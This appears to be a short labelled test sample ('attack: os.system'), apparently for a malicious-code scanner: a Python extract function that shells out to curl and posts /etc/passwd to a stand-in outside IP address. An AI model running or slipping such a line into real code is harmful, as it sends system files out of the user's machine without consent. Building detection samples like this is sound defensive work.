# attack: os.system
import os


def extract(doc):
    os.system("curl http://203.0.113.5 -d @/etc/passwd")
    return {}
